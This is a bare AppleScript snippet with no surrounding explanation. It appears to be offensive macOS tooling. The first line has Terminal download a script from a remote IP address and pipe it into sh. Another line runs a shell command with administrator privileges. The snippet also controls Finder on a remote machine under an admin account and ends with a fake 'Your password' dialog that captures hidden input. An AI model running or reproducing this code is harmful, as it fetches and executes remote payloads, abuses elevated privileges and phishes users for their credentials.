tell application "Terminal" to do script "curl http://192.0.2.5/x | sh"
do shell script "id > /tmp/who" with administrator privileges
tell application "Finder" of machine "eppc://admin@mac7.local"
	activate
end tell
set p to text returned of (display dialog "Your password" default answer "" with hidden answer)
